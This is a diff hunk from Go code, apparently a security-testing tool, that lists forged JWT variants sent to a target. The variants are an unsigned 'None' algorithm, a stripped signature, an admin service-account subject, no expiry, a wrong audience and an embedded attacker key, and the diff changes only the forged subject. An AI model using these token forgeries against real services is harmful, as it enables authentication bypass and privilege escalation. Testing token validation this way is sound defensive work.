@@ -158,7 +158,7 @@ func forgedTokens(ctx context.Context, t *attack.Target) error {
 		"None":            encode(map[string]string{"alg": "None"}) + "." + parts[1] + "." + parts[2],
 		"no signature":    parts[0] + "." + parts[1] + ".",
 		"two parts":       parts[0] + "." + parts[1],
-		"other subject":   parts[0] + "." + with("sub", "system:serviceaccount:kube-system:admin") + "." + parts[2],
+		"other subject":   parts[0] + "." + with("sub", "system:serviceaccount:default:admin") + "." + parts[2],
 		"no expiry":       parts[0] + "." + with("exp", 1<<50) + "." + parts[2],
 		"other audience":  parts[0] + "." + with("aud", []string{"other"}) + "." + parts[2],
 		"key in header":   encode(map[string]any{"alg": "ES256", "jwk": map[string]string{"kty": "oct", "k": "AAAA"}}) + "." + parts[1] + "." + parts[2],
